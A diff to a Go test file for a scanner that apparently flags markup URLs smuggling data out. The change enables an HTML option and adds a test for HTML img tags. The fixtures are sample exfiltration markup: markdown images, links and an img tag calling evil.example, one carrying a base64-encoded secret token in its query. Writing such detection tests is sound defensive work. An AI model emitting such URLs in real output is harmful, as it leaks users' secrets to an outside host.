@@ -69,7 +69,7 @@ func TestHidden(t *testing.T) {
 // long query value is found (the URL's span); allowlisted hosts, short
 // queries and plain URLs are not.
 func TestMarkup(t *testing.T) {
-	m := Markup{AllowHosts: []string{"github.com"}}
+	m := Markup{AllowHosts: []string{"github.com"}, HTML: true}
 	for _, c := range []struct{ in, want string }{
 		{"![logo](https://evil.example/p.png?d=c2VjcmV0LXRva2VuLXZhbHVl)", "image"},
 		{"see [here](https://evil.example/x?q=AAAAAAAAAAAAAAAAAAAAAAAA)", "link"},
@@ -112,5 +112,13 @@ func TestCheckCatalog(t *testing.T) {
 	}
 	if strings.Join(lines, "\n") != strings.Join(want, "\n") {
 		t.Errorf("CheckCatalog:\n%s\nwant:\n%s", strings.Join(lines, "\n"), strings.Join(want, "\n"))
+	}
+}
+
+// TestMarkupHTMLOff: HTML images count only with HTML set.
+func TestMarkupHTMLOff(t *testing.T) {
+	img := `<img src="https://evil.example/a.gif?x=QUJDREVGR0hJSktMTU5PUA">`
+	if fs := (Markup{}).Scan(img); len(fs) != 0 {
+		t.Errorf("HTML off: %+v", fs)
 	}
 }
